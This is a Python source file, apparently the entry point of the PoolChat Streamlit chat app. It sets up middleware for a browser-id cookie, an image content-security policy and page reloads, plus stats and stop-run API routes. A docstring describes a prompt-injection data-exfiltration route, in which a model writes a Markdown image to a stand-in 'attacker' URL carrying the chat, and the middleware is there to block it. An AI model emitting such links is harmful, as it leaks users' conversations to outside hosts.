"""PoolChat's entry point: ``streamlit run app.py``.

Imported by Streamlit's server, this module defines ``app``: Streamlit plus a cookie that
gives each browser a random, stable identity (pages can read cookies but not set them)
and the ``/api/stats.json`` monitoring route. Run as the Streamlit script, it is the frame
that declares the pages.
"""

from __future__ import annotations

import gzip
import logging
import math
import secrets
from contextlib import asynccontextmanager

import streamlit as st
from streamlit.runtime.pages_manager import PagesManager
from starlette.concurrency import run_in_threadpool
from starlette.middleware import Middleware
from starlette.requests import Request, cookie_parser
from starlette.responses import JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from core.auth import TooManyGuesses
from core.ids import is_valid_session_id
from core.runtime import reset_shared_manager, shared_manager, shared_recorder
from core.stats import public_stats
from core.tools import serialize_parsing
from pages.clicks import keep_clicks
from pages.common import BROWSER_COOKIE, BROWSER_COOKIE_MAX_AGE, load_app_settings


class BrowserIdCookie:
    """ASGI middleware: give a browser without one a random HttpOnly, SameSite=Lax id."""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] != "http" or self._has_valid_cookie(scope):
            await self.app(scope, receive, send)
            return
        secure = "; Secure" if _is_https(scope) else ""
        cookie = (f"{BROWSER_COOKIE}={secrets.token_urlsafe(24)}; Path=/; "
                  f"Max-Age={BROWSER_COOKIE_MAX_AGE}; HttpOnly; SameSite=Lax{secure}")

        async def send_with_cookie(message) -> None:
            if message["type"] == "http.response.start":
                headers = [*message.get("headers", []), (b"set-cookie", cookie.encode())]
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send_with_cookie)

    @staticmethod
    def _has_valid_cookie(scope) -> bool:
        """A value not of our making (``bad``, mangled) is replaced: kept, the pages
        would fall back to one identity per tab, and the chats vanish on a reload."""
        for name, value in scope.get("headers", []):
            if name == b"cookie" and is_valid_session_id(
                    cookie_parser(value.decode("latin-1")).get(BROWSER_COOKIE)):
                return True
        return False


class NoOutsideImages:
    """ASGI middleware: pages load images only from PoolChat itself (and data: URLs).

    Replies are Markdown, and a model can be talked into writing
    ``![](https://attacker/?q=<the chat>)``: the browser would fetch it unasked, sending
    the chat out. Links stay links (a click is the user's choice).
    """

    POLICY = (b"content-security-policy", b"img-src 'self' data: blob:")

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message) -> None:
            if message["type"] == "http.response.start":
                message = {**message, "headers": [*message.get("headers", []), self.POLICY]}
            await send(message)

        await self.app(scope, receive, send_with_policy)


class ReloadWhenCodeFailsToLoad:
    """ASGI middleware: the app's page reloads itself once its code can be fetched again.

    Streamlit's page fetches each element's code when first drawn; cut off then (flaky
    Wi-Fi, a laptop waking), every element showed "Failed to fetch dynamically imported
    module" in red, the chat box among them, until the user reloaded (3 times in 6 in a
    walk). The failure is said by Vite's loader (``vite:preloadError``) before any page
    script of ours could run, so the listener goes into the page's HTML itself; cut off
    earlier, the page's own code failed and the page stayed blank (5 of 5): a script or
    stylesheet of the page that fails to load is caught too. At most 3 reloads a minute
    per tab; drafts and a message not sent are kept in the browser.
    """

    SCRIPT = b"""<script>
(() => {
  let waiting = false;
  const reloadOnceServed = () => {
    const KEY = "poolchat-code-reloads", now = Date.now();
    let times = [];
    try { times = JSON.parse(sessionStorage.getItem(KEY)) || []; } catch { /* off */ }
    times = times.filter((t) => t > now - 60000);
    if (waiting || times.length >= 3) return;
    waiting = true;
    try { sessionStorage.setItem(KEY, JSON.stringify([...times, now])); } catch { /* off */ }
    const tryAgain = () => fetch("_stcore/health", {cache: "no-store"})
      .then((answer) => answer.ok ? location.reload() : setTimeout(tryAgain, 1000))
      .catch(() => setTimeout(tryAgain, 1000));
    tryAgain();
  };
  window.addEventListener("vite:preloadError", reloadOnceServed);
  window.addEventListener("error", (event) => {  // the page's own code: a blank page
    if (event.target instanceof HTMLScriptElement || event.target instanceof HTMLLinkElement) {
      reloadOnceServed();
    }
  }, true);
})();
</script>"""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] != "http" or scope["method"] != "GET":
            await self.app(scope, receive, send)
            return
        start, body = None, []

        async def send_with_script(message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                headers = dict(message.get("headers", []))
                if (message["status"] == 200
                        and headers.get(b"content-type", b"").startswith(b"text/html")):
                    start = message  # held until the whole page is here
                    return
            if start is None:
                await send(message)
                return
            body.append(message.get("body", b""))
            if message.get("more_body"):
                return
            page, headers = self._with_script(b"".join(body), start["headers"])
            await send({**start, "headers": headers})
            await send({"type": "http.response.body", "body": page})

        await self.app(scope, receive, send_with_script)

    def _with_script(self, page: bytes, headers) -> tuple[bytes, list]:
        zipped = dict(headers).get(b"content-encoding") == b"gzip"
        html = gzip.decompress(page) if zipped else page
        if b"</head>" in html:
            html = html.replace(b"</head>", self.SCRIPT + b"</head>", 1)
            page = gzip.compress(html) if zipped else html
        return page, [*((name, value) for name, value in headers
                        if name != b"content-length"),
                      (b"content-length", str(len(page)).encode())]


def _is_https(scope) -> bool:
    forwarded = dict(scope.get("headers", [])).get(b"x-forwarded-proto", b"")
    return scope.get("scheme") == "https" or forwarded == b"https"


async def stats_json(request: Request) -> JSONResponse:
    """Aggregates for monitoring: counts and pool counters, no text and no session ids.

    With STATS_PASSWORD set, send it as ``Authorization: Bearer <password>``.
    """
    manager = await run_in_threadpool(shared_manager, load_app_settings)
    scheme, _, given = request.headers.get("authorization", "").partition(" ")
    try:
        right = manager.stats_gate.check(given if scheme.lower() == "bearer" else None)
    except TooManyGuesses as busy:
        return JSONResponse({"error": str(busy)}, status_code=429,
                            headers={"Retry-After": str(math.ceil(busy.retry_after))})
    if not right:
        if given:  # guessing shows in the log (the token itself never does)
            logging.getLogger("poolchat").warning(
                "stats API: a wrong bearer token from %s",
                request.client.host if request.client else "?")
        return JSONResponse({"error": "a valid bearer token (STATS_PASSWORD) is required"},
                            status_code=401, headers={"WWW-Authenticate": "Bearer"})
    stats = await run_in_threadpool(public_stats, manager, shared_recorder())
    return JSONResponse(stats, headers={"Cache-Control": "no-store"})


async def stop_run(request: Request) -> Response:
    """A Stop click sent again by the page as a keepalive request (pages/chat.py), which
    still goes out when the page is reloaded or closed right after the click, and is
    sent again until answered (the connection silently gone meanwhile).
    The body is the run's id; only the browser whose chat it is can stop it."""
    owner = request.cookies.get(BROWSER_COOKIE)
    body = b""
    async for chunk in request.stream():  # a run id is 24 characters: read no more
        body += chunk
        if len(body) > 100:
            break
    run_id = body[:100].decode("ascii", "replace").strip()
    if not is_valid_session_id(owner):
        return Response(status_code=403)
    manager = await run_in_threadpool(shared_manager, load_app_settings)
    stopped = await run_in_threadpool(manager.stop_run, run_id, owner)
    return Response(status_code=204 if stopped else 404)


@asynccontextmanager
async def stop_runs_at_shutdown(_app):
    """On SIGTERM (a redeploy, a restart) Streamlit's server ends gracefully, then the
    process dies of the signal: nothing at exit would run. Here, replies still being
    written are stopped first, each stored up to its last word, marked interrupted
    (retryable), with its usage; without it they stayed "running" until a sweep."""
    yield
    await run_in_threadpool(reset_shared_manager)


logging.basicConfig(format="%(asctime)s %(levelname)s %(name)s: %(message)s")
logging.getLogger("poolchat").setLevel(logging.INFO)

# A fresh server whose first request is a deep link (/stats, /chat) would run that page
# file alone in Streamlit's old pages-directory mode, every module of pages/ listed in
# the sidebar, until somebody opened "/" (st.navigation switches the mode off for the
# process). The pages are declared below with st.navigation, always.
PagesManager.uses_pages_directory = False
keep_clicks()  # a click followed at once by a message is not lost (pages/clicks.py)
serialize_parsing()  # Streamlit compiling a page while a calculator parses (core/tools.py)

def api_routes() -> list[Route]:
    """The API at the root and, behind a base path (``server.baseUrlPath``), under it
    too: st.App mounts routes at the root only, and the page's Stop request posts to a
    relative ``api/stop`` (under a base path it got Streamlit's 405 and was lost)."""
    base = str(st.get_option("server.baseUrlPath") or "").strip("/")
    return [route for prefix in ("", *([f"/{base}"] if base else [])) for route in (
        Route(f"{prefix}/api/stats.json", stats_json),
        Route(f"{prefix}/api/stop", stop_run, methods=["POST"]),
        *(Route(f"{prefix}/{CHAT_PATH}{end}", chat_at(f"{prefix}/")) for end in ("", "/")))]


CHAT_PATH = "chat"  # the chat page's name; Streamlit serves the default page at "/" only


def chat_at(root: str):
    """``/chat`` (a link, a bookmark, the README) opens the chat: Streamlit ignores the
    default page's own path and drew "Page not found" over it. The chat's address
    (``?session=…``) goes along."""
    async def redirect(request: Request) -> Response:
        query = request.url.query
        return RedirectResponse(root + (f"?{query}" if query else ""), status_code=307)
    return redirect


app = st.App("app.py", routes=api_routes(),
             middleware=[Middleware(BrowserIdCookie), Middleware(NoOutsideImages),
                         Middleware(ReloadWhenCodeFailsToLoad)],
             lifespan=stop_runs_at_shutdown)

if __name__ == "__main__":
    # an emoji: Streamlit draws it as a data: SVG (a Material icon's favicon is fetched
    # from fonts.gstatic.com on every load, outside the image policy above)
    st.set_page_config(page_title="PoolChat", page_icon="💬", layout="wide")
    st.navigation([
        st.Page("pages/chat.py", title="Chat", icon=":material/chat:", url_path=CHAT_PATH,
                default=True),
        st.Page("pages/stats.py", title="Stats", icon=":material/monitoring:",
                url_path="stats"),
    ]).run()
